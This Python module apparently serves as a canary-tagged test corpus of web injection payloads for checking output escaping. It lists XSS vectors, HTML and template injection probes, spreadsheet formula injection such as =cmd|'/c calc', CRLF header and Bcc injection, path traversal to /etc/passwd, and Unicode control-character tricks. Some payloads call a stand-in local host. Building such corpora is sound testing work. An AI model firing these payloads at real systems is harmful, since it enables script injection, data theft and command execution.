"""Words written to harm: script, markup, templates, formulas, headers, signs that steer; `M` stands for a mark.

`marked(words, "q9x7")` puts a mark of its own into each, by which it is found again wherever it comes out.
`JUST_BY_HAND` are those that no database can hold: they only come by a form.
"""

MARK = "q9x"

SCRIPT = (
    "<script>alert('M')</script>", "<SCRIPT SRC=//127.0.0.1:9/M.js></SCRIPT>",
    "<scr<script>ipt>alert('M')</script>", "\"><script>alert('M')</script>", "'><script>alert('M')</script>",
    "</textarea><script>alert('M')</script>", "</title><script>alert('M')</script>",
    "</script><script>alert('M')</script>", "</style><script>alert('M')</script>",
    "--><script>alert('M')</script>", "]]><script>alert('M')</script>",
    "</option></select><img src=x onerror=M>", "<img src=x onerror=alert('M')>",
    "<img/src=x/onerror=alert('M')>", "<IMG \"\"\"><SCRIPT>alert('M')</SCRIPT>\">", "<svg onload=alert('M')>",
    "<svg/onload=alert('M')//", "<svg><script>alert&#40;'M'&#41;</script>",
    "<svg><animate onbegin=alert('M') attributeName=x>", "<body onload=alert('M')>",
    "<input onfocus=M autofocus>", "<select onfocus=alert('M') autofocus>",
    "<textarea onfocus=alert('M') autofocus>", "<video><source onerror=M>", "<audio src=x onerror=alert('M')>",
    "<details open ontoggle=alert('M')>", "<marquee onstart=alert('M')>", "<iframe src=javascript:alert('M')>",
    "<iframe srcdoc='<script>alert(1)</script>M'>", "<object data=javascript:M>",
    "<embed src=javascript:alert('M')>", "<a href=javascript:alert('M')>M</a>",
    "<a href=\"jav\tascript:M\">M</a>", "<a href='data:text/html,<script>M</script>'>M</a>",
    "<a href=vbscript:M>M</a>", "javascript:alert('M')", "JaVaScRiPt:alert('M')",
    "data:text/html,<script>alert('M')</script>", "<form action=javascript:M><button>M",
    "<button formaction=javascript:alert('M')>M", "<isindex action=javascript:M type=image>",
    "<math><mtext><style><img src=x onerror=M>", "<noscript><p title='</noscript><img src=x onerror=M>'>",
    "<style>@keyframes x{}</style><p onanimationend=M>", "<xss onclick=alert('M')>M</xss>",
    "\" onmouseover=alert('M') x=\"", "' onmouseover=alert('M') x='", "` onmouseover=alert('M') x=`",
    "\" autofocus onfocus=alert('M') \"", "&lt;script&gt;alert('M')&lt;/script&gt;",
    "&#60;script&#62;M&#60;/script&#62;", "%3Cscript%3EM%3C/script%3E", "\\x3cscript\\x3eM\\x3c/script\\x3e",
    "\\u003cscript\\u003eM", "＜script＞alert('M')＜/script＞", "+ADw-script+AD4-M", "';alert('M')//",
    "\";alert('M')//", "\\';alert('M')//", "${alert('M')}", "</script><svg/onload=M>",
)  # fmt: skip
MARKUP = (
    "<b>M</b>", "<h1>M", "<table><tr><td>M", "</div></main></body></html>M", "<base href=//127.0.0.1:9/M/>",
    "<meta http-equiv=refresh content='0;url=//127.0.0.1:9/M'>",
    "<link rel=stylesheet href=//127.0.0.1:9/M.css>", "<link rel=attachment href='file:///etc/hostname'>M",
    "<style>*{display:none}/*M*/</style>", "<style>@import '//127.0.0.1:9/M';</style>",
    "<p style='background:url(//127.0.0.1:9/M)'>M</p>", "<img src=//127.0.0.1:9/M.png>",
    "<img src='file:///etc/passwd'>M", "<object data='file:///etc/passwd'>M",
    "<iframe src='http://127.0.0.1:9/M'></iframe>", "<svg><image href='http://127.0.0.1:9/M.png'/></svg>",
    "<svg><use href='//127.0.0.1:9/M.svg#x'/></svg>", "<form action=//127.0.0.1:9/M><input name=password>",
    "<input type=hidden name=csrfmiddlewaretoken value=M>", "<!-- M", "<!DOCTYPE M>", "<?xml M?>", "<![CDATA[M",
    "<plaintext>M", "<xmp>M", "<M>", "< M", "<M q9x=1>", "&M;", "&amp;M&amp;lt;",
    "<a href=//127.0.0.1:9/M>M</a>",
)  # fmt: skip
TEMPLATE = (
    "{{7*7}}M", "M{{7*7}}M", "{{ settings.SECRET_KEY }}M", "{% debug %}M", "{% include 'base.html' %}M",
    "{% load static %}M", "{{ request.user.password }}M", "{# M #}", "{{M", "{%M", "${7*7}M", "#{7*7}M",
    "<%= 7*7 %>M", "{{''.__class__.__mro__}}M", "%(password)sM", "{0.__class__}M", "{password}M", "%s%s%s%nM",
    "{{M|safe}}", "{% term 'audit' %}M",
)  # fmt: skip
FORMULA = (
    "=1+1&\"M\"", "+1+1&\"M\"", "-1+1&\"M\"", "@SUM(1,1)&\"M\"", "\t=1+1&\"M\"", "\r=1+1&\"M\"", "\n=1+1&\"M\"",
    " =1+1&\"M\"", "  @M", "＝1+1&\"M\"", "＋1&\"M\"", "－1&\"M\"", "＠M", "\"=1+1&\"\"M\"\"\"", "'=1+1&\"M\"",
    ";=1+1;M", ",=1+1,M", "=HYPERLINK(\"http://127.0.0.1:9/M\",\"M\")", "=WEBSERVICE(\"http://127.0.0.1:9/M\")",
    "=cmd|'/c calc'!M", "+cmd|'/c calc'!M", "-2+3+cmd|'/c calc'!M", "@M|x!A1",
    "=IMPORTXML(\"http://127.0.0.1:9/\",\"M\")", "{=1+1}M", "\u00a0=1+1&\"M\"", "\u200b=1+1&\"M\"",
    "http://127.0.0.1:9/M", "internal:Sheet!A1 M",
)  # fmt: skip
HEADER = (
    "M\r\nBcc: evil@127.0.0.1", "M\nBcc: evil@127.0.0.1", "M\rBcc: evil@127.0.0.1",
    "M\r\n\r\n<script>M</script>", "M%0d%0aSet-Cookie: M=1", "M\r\nSet-Cookie: M=1",
    "M\r\nLocation: //127.0.0.1:9", "M\u2028Bcc: evil@127.0.0.1", "M\x85Bcc: evil@127.0.0.1",
    "M嘊嘍Set-Cookie: M", "M\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:M", "M\nEND:VCALENDAR",
    "M\r\n ATTACH:http://127.0.0.1:9/M", "M\x0bATTENDEE:mailto:M", "M; filename=\"M.exe\"", "../../M",
    "..\\..\\M", "M/../../etc/passwd",
)  # fmt: skip
STEERING = (
    "M\u202egnp.exe", "\u202dM", "M\u2066\u2067\u2068", "\u200e\u200fM", "M\u2069\u202c", "\ufeffM",
    "M\u200d\u200c", "M\x1b[2J\x1b]0;M\x07", "M\x08\x08\x08", "M\x7f", "M\x01\x02\x1f", "M\u0085\u2028\u2029",
    "M" + "\u0301" * 20, "M\U000e0001\U000e0041", "M\ufff9\ufffa\ufffb", "M\U0001f469\u200d\U0001f467", "Ｍ M",
    "M\ufffe\uffff", "M\x0c\x0b",
)  # fmt: skip
JUST_BY_HAND = ("M\x00", "\x00<script>M</script>", "M\ud800", "\udfff=M")

CORPUS = (*SCRIPT, *MARKUP, *TEMPLATE, *FORMULA, *HEADER, *STEERING)


def marked(words, mark):
    """The words with the mark in the place of each M."""
    return words.replace("M", mark)


class Hand:
    """Gives one of the words after the other, those that fit; each with the mark it is asked for."""

    def __init__(self, words=CORPUS, start=0):
        self.words, self.place = words, start

    def next(self, mark, longest=None):
        for _ in self.words:
            found = marked(self.words[self.place % len(self.words)], mark)
            self.place += 1
            if not longest or len(found) <= longest:
                return found
        raise ValueError(f"No words fit into {longest} characters.")
